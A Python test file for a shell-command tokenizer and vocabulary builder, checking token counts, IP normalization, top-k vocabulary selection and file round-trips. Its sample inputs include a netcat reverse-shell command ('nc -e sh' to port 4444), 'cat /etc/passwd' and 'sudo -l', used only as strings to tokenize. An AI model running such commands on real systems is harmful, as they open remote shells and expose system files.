import io
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from slp.corpus import (
    Corpus,
    Vocabulary,
    build_corpus,
    read_vocabulary,
    top_k_vocabulary,
    write_counter,
    write_vocabulary,
)


@pytest.mark.parametrize(
    "commands, expected",
    [
        (["ls -la", "ls /tmp"], {"ls": 2, "-la": 1, "/tmp": 1}),
        (["pwd"], {"pwd": 1}),
        (["echo hi | echo hi"], {"echo": 2, "hi": 2, "|": 1}),
    ],
)
def test_build_corpus_counts(commands, expected):
    corpus, counter = build_corpus(commands)
    assert dict(counter) == expected
    assert sum(counter.values()) == sum(len(c.tokens) for c in corpus.commands)


def test_build_corpus_normalizes_by_default():
    corpus, _ = build_corpus(["nc 10.0.0.5 80"])
    assert corpus.token_lists == [["nc", "1.1.1.1", "80"]]
    corpus, _ = build_corpus(["nc 10.0.0.5 80"], use_normalization=False)
    assert corpus.token_lists == [["nc", "10.0.0.5", "80"]]


def test_build_corpus_reports_warning_rows():
    corpus, counter = build_corpus(["ls", "echo 'oops", "x $(y"])
    assert corpus.warning_rows == [1, 2]
    assert counter["oops"] == 1


def test_build_corpus_baseline_tokenizers():
    corpus, _ = build_corpus(["java -Xms256m"], tokenizer="wordpunct")
    assert corpus.token_lists == [["java", "-", "Xms256m"]]
    with pytest.raises(ValueError):
        build_corpus(["ls"], tokenizer="nltk")


def test_build_corpus_rejects_empty_and_bad_labels():
    with pytest.raises(ValueError):
        build_corpus([])
    with pytest.raises(ValueError):
        build_corpus(["ls", "pwd"], labels=[1])


@pytest.mark.parametrize(
    "counts, k, expected",
    [
        ({"a": 3, "b": 1, "c": 2}, 2, ("a", "c")),
        ({"x": 1, "y": 1}, 2, ("x", "y")),
        ({"a": 1}, 100, ("a",)),
        ({"b": 2, "a": 2, "B": 2, "é": 2}, 4, ("B", "a", "b", "é")),
    ],
)
def test_top_k_vocabulary(counts, k, expected):
    vocab = top_k_vocabulary(Counter(counts), k)
    assert vocab.entries == expected
    assert all(vocab.index[t] == i for i, t in enumerate(vocab.entries))


def test_top_k_rejects_nonpositive_k():
    with pytest.raises(ValueError):
        top_k_vocabulary(Counter({"a": 1}), 0)


def test_vocabulary_rejects_duplicates():
    with pytest.raises(ValueError):
        Vocabulary(("a", "a"))


def test_counter_dump_format():
    fh = io.StringIO()
    write_counter(Counter({"b": 1, "a": 1, "ls": 3}), fh)
    assert fh.getvalue() == "ls\t3\na\t1\nb\t1\n"


def test_vocabulary_file_round_trip(tmp_path):
    vocab = Vocabulary(("ls", "-la", "$("))
    path = tmp_path / "vocab.txt"
    write_vocabulary(vocab, path)
    assert path.read_text(encoding="utf-8") == "ls\n-la\n$(\n"
    assert read_vocabulary(path) == vocab


_commands = st.lists(
    st.sampled_from(["ls -la", "cat /etc/passwd", "echo hi | grep h", "nc -e sh 1.1.1.1 4444",
                     "a=$(b)", "pwd", "sudo -l"]),
    min_size=1, max_size=8,
)


@given(_commands, st.randoms())
def test_permutation_invariance(commands, rnd):
    perm = list(range(len(commands)))
    rnd.shuffle(perm)
    corpus, counter = build_corpus(commands)
    corpus_p, counter_p = build_corpus([commands[i] for i in perm])
    assert counter_p == counter
    assert corpus_p.token_lists == [corpus.token_lists[i] for i in perm]


@given(st.dictionaries(st.text(min_size=1, max_size=3), st.integers(1, 5), min_size=1),
       st.integers(1, 10))
def test_top_k_properties(counts, k):
    counter = Counter(counts)
    vocab = top_k_vocabulary(counter, k)
    assert len(vocab) == min(k, len(counter))
    assert top_k_vocabulary(Counter(dict(reversed(list(counts.items())))), k) == vocab
    chosen = [counter[t] for t in vocab.entries]
    assert chosen == sorted(chosen, reverse=True)
    rest = [c for t, c in counter.items() if t not in vocab]
    if rest:
        assert min(chosen) >= max(rest)


def test_corpus_len_and_labels():
    corpus = Corpus([], labels=[])
    assert len(corpus) == 0
